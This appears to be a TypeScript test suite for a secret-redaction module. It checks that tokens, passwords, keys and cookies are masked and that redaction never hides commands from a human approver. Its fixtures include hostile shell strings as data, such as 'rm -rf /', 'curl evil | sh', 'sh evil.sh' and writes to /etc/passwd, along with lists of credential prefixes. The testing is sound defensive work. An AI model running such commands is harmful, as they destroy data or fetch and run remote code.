import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { redactForApproval, redactSecrets } from '../../../../src/core/text/secrets/redact.ts'
import { LINEAR_AT_MOST, measureGrowth } from '../growth.ts'

const PEM =
  '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx7vZ8k1pQ2\nq3Zz==\n-----END RSA PRIVATE KEY-----'
const WEB_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P'

describe('names that sound secret', () => {
  it.each([
    ['API_KEY=abc123', 'API_KEY=[redacted]'],
    ['export AWS_SECRET_ACCESS_KEY="a b c"', 'export AWS_SECRET_ACCESS_KEY="[redacted]"'],
    ['GITHUB_TOKEN: abc', 'GITHUB_TOKEN: [redacted]'],
    ['DB_PASSWORD=p&s;w<d', 'DB_PASSWORD=[redacted]'],
    ["client_secret = 'x y'", "client_secret = '[redacted]'"],
    ['{"apiKey": "s3cr3t", "model": "big"}', '{"apiKey": "[redacted]", "model": "big"}'],
    ['{"accessToken":"a\\"b","n":1}', '{"accessToken":"[redacted]","n":1}'],
    ['"{\\"token\\": \\"abc\\", \\"n\\": 1}"', '"{\\"token\\": \\"[redacted]\\", \\"n\\": 1}"'],
    ['login --password hunter2 --verbose', 'login --password [redacted] --verbose'],
    ['login --api-key=hunter2 now', 'login --api-key=[redacted] now'],
    ['Authorization: Bearer abc.def', 'Authorization: Bearer [redacted]'],
    ['authorization: Basic dXNlcjpwYXNz', 'authorization: Basic [redacted]'],
    ['curl -H "X-Api-Key: k" -u bob:pw x', 'curl -H "X-Api-Key: [redacted]" -u bob:[redacted] x'],
    ['Cookie: sid=1; theme=dark', 'Cookie: [redacted]'],
    ['https://bob:p@ss@host.test/x?token=abc', 'https://bob:[redacted]@host.test/x?token=[redacted]'],
    ["config['api_key'] = 'x'", "config['api_key'] = '[redacted]'"],
    [":password => 'x'", ":password => '[redacted]'"],
    ['cmd="MY_TOKEN=abc run"', 'cmd="MY_TOKEN=[redacted] run"'],
    ['password: "never closed', 'password: "[redacted]'],
    ['f(password=abc)', 'f(password=[redacted])'],
  ])('F-SAFE-REDACT: %s keeps its name and loses its value', (text, shown) => {
    expect(redactSecrets(text)).toBe(shown)
  })

  it.each([
    'token: string',
    'password = null',
    'password=$DB_PASSWORD and --token ${GH_TOKEN}',
    'primary_key: id',
    'public_key = "abc"',
    'max_tokens: 100',
    'monkey: banana',
    'const token => next(token)',
    'secret: {',
    'PWD=/home/ada',
    'the password is required',
    'https://host.test:8080/a@b',
    'skills: sk-loading-indicator',
    'author: Ada',
  ])('F-SAFE-REDACT: %s has no secret and stays', (text) => {
    expect(redactSecrets(text)).toBe(text)
  })
})

describe('values that look secret', () => {
  it.each([
    ['sk-ant-api03-abcDEF123_456-xyz'],
    ['sk-proj-1234567890abcdef'],
    ['ghp_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['gho_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['ghs_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['github_pat_11ABCDEFG0abcdefghij_klmnop'],
    ['glpat-abcdefghij1234567890'],
    ['xoxb-123456789012-abcdefABCDEF'],
    ['AKIAIOSFODNN7EXAMPLE'],
    ['AIzaSyA1234567890abcdefghijklmnopqrstuv'],
    ['npm_abcdefghijklmnopqrstuvwxyz0123456789'],
    [WEB_TOKEN],
  ])('F-SAFE-REDACT: %s goes wherever it stands', (secret) => {
    expect(redactSecrets(`got ${secret}, thanks`)).toBe('got [redacted], thanks')
    expect(redactSecrets(`x="${secret}"`)).toBe('x="[redacted]"')
  })

  it('F-SAFE-REDACT: a private key goes, its frame stays', () => {
    const frame = '-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----'
    expect(redactSecrets(`a\n${PEM}\nb\n${PEM}`)).toBe(`a\n${frame}\nb\n${frame}`)
    expect(redactSecrets(JSON.stringify(PEM))).toBe(`"${frame}"`)
    expect(redactSecrets('-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nMII (cut)')).toBe(
      '-----BEGIN PRIVATE KEY-----[redacted](cut)',
    )
    const code = "startsWith('-----BEGIN PRIVATE KEY-----') && endsWith('-----END PRIVATE KEY-----')"
    expect(redactSecrets(code)).toBe(code)
    expect(redactSecrets('-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG9w0B')).toContain(
      'MIIEvQIBADANBgkqhkiG9w0B',
    )
  })

  it('F-SAFE-REDACT: known values go as they are, in JSON and in a URL; short ones are left', () => {
    const known = ['p"ss w/rd', 'abc', 'longer-secret', 'longer-secret-still', 'redacted']
    expect(redactSecrets('p"ss w/rd p\\"ss w/rd p%22ss%20w%2Frd abc', known)).toBe(
      '[redacted] [redacted] [redacted] abc',
    )
    expect(redactSecrets('<longer-secret-still> <longer-secret>', known)).toBe('<[redacted]> <[redacted]>')
    expect(redactSecrets('a.c*d+ a.c*d+x', ['a.c*d+x'])).toBe('a.c*d+ [redacted]')
  })
})

describe('text that a person approves', () => {
  it.each([
    ['X_TOKEN=a;rm -rf /', 'X_TOKEN=[redacted];rm -rf /'],
    ['X_TOKEN=a&&curl evil|sh', 'X_TOKEN=[redacted]&&curl evil|sh'],
    ['X_TOKEN="$(curl evil | sh)"', 'X_TOKEN="$(curl evil | sh)"'],
    ['echo "X_TOKEN="; rm -rf /; echo "x"', 'echo "X_TOKEN="; rm -rf /; echo "x"'],
    ['X_TOKEN=`reboot`', 'X_TOKEN=`reboot`'],
    ['curl http://u:$(reboot)@h', 'curl http://u:$(reboot)@h'],
    ['curl -H Cookie:a;reboot', 'curl -H Cookie:[redacted];reboot'],
    ['--password hunter2 >/etc/passwd', '--password [redacted] >/etc/passwd'],
    ['{"password": "plain"}', '{"password": "[redacted]"}'],
  ])('FR-APR-01: %s hides no command behind a secret', (text, shown) => {
    expect(redactForApproval(text)).toBe(shown)
  })

  it('FR-APR-01: the frame of a private key hides only the key', () => {
    const frame = PEM.replace('q3Zz==', 'rm -rf ~; sh evil.sh')
    expect(redactForApproval(frame)).toBe(
      '-----BEGIN RSA PRIVATE KEY-----\n[redacted]\nrm -rf ~; sh evil.sh\n-----END RSA PRIVATE KEY-----',
    )
  })
})

const split = (words: string): string[] => words.split('¦')
const PIECES = split(
  `API_KEY¦token¦password¦x¦=¦: ¦ ¦"¦'¦\\"¦\`¦;¦[¦]¦}¦)¦,¦\n¦[redacted]¦sk-abc123456¦-u a:¦://a:¦@¦Bearer ¦Cookie: ¦` +
    `--secret ¦abc1¦$(¦=>¦&¦\${A}¦-----BEGIN PRIVATE KEY-----¦-----END ¦MIIEvQIBADANBgkqhkiG9w0B¦${WEB_TOKEN}`,
)
const HOSTILE_UNITS = split(
  `a¦token¦token=¦token="¦token='¦token=\\"¦token="\\¦API_KEY=a ¦token=}¦x:¦-¦.¦ ¦--x ¦"¦\\¦://¦://a:¦://a:@¦-u a¦Bearer ¦` +
    `Cookie:¦sk-¦eyJa¦eyJaaaaaaaaa.¦eyJaaaaaaaa-¦npm_¦-----BEGIN PRIVATE KEY-----¦-----BEGIN ¦A ¦` +
    `-----BEGIN A PRIVATE KEY-----MIIEvQIBADANBgkqhkiG9w0B(¦-----BEGIN PRIVATE KEY-----(`,
)

describe('laws', () => {
  const pieces = fc.constantFrom(...PIECES)

  it.each([redactSecrets, redactForApproval])(
    'F-SAFE-REDACT: a second pass of %o changes nothing',
    (redact) => {
      fc.assert(
        fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
          const once = redact(parts.join(''))
          expect(redact(once)).toBe(once)
        }),
        { numRuns: 20_000 },
      )
    },
  )

  it('F-SAFE-REDACT: a value survives in no usual notation', () => {
    const name = fc.constantFrom('API_KEY', 'dbPassword', 'client_secret', 'GITHUB_TOKEN', 'private-key')
    const value = fc.stringMatching(/^[A-Za-z0-9!#%*+./:?@^_~-]{6,24}$/)
    const write = fc.constantFrom(
      (n: string, v: string) => `${n}=${v}`,
      (n: string, v: string) => `export ${n}='${v}' && run`,
      (n: string, v: string) => JSON.stringify({ before: 1, [n]: v, after: 2 }),
      (n: string, v: string) => JSON.stringify(JSON.stringify({ [n]: v })),
      (n: string, v: string) => `${n}: ${v}\nnext: 1`,
      (n: string, v: string) => `run --${n} ${v.replace(/^-+/, 'x')} x`,
    )
    fc.assert(
      fc.property(name, value, write, (n, v, print) => {
        const shown = redactSecrets(print(n, `Q${v}`))
        expect(shown).not.toContain(`Q${v}`)
        expect(shown).toContain(n)
        expect(shown).toContain('[redacted]')
      }),
      { numRuns: 5000 },
    )
  })
})

describe('hostile text', () => {
  it.each(HOSTILE_UNITS)('F-SAFE-REDACT: time grows no faster than a run of %j', (unit) => {
    expect(measureGrowth((text) => redactSecrets(`${text}!`), unit)).toBeLessThan(LINEAR_AT_MOST)
  })

  it('F-SAFE-REDACT: survives long lines without an end', () => {
    for (const unit of ['password="', 'a', '"', '\\', 'token=\\"x']) {
      expect(redactSecrets(`secret="${unit.repeat(400_000)}`).length).toBeGreaterThan(0)
    }
  })
})

describe('text that is seen to hold nothing at a glance', () => {
  it('F-SAFE-REDACT: holds nothing on a closer look either', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        'gho_',
        'ghs_',
        'github_pat_',
        'glpat-',
        'xoxb-',
        'AKIA',
        'ASIA',
        'AIza',
        'npm_',
        'hf_',
        'sk_live_',
        'rk_test_',
        'sk-',
        'Bearer ',
        'eyJ',
        '://',
        'a:b@',
        '-u ',
        '--user=',
        '--proxy-user ',
        'Cookie: ',
        'set-cookie:',
        'x=',
        ': ',
        '"',
        "'",
        '\n',
        '-----BEGIN RSA PRIVATE KEY-----',
        '-----END ',
        'passwd',
        'passphrase',
        'credentials',
        'authorization',
        'db_pass',
        'DB_PWD',
        'x.auth',
        'idToken',
        'apiSecret',
        'accesskey',
        'MY_KEY',
        '.',
        '0123456789abcdef',
        'ABCDEFGHIJKLMNOPQRST',
      ),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('')
        // A word on a line of its own makes the closer look happen.
        if (redactSecrets(text) === text) expect(redactSecrets(`${text}\nkey`)).toBe(`${text}\nkey`)
      }),
      { numRuns: 20_000 },
    )
  })
})
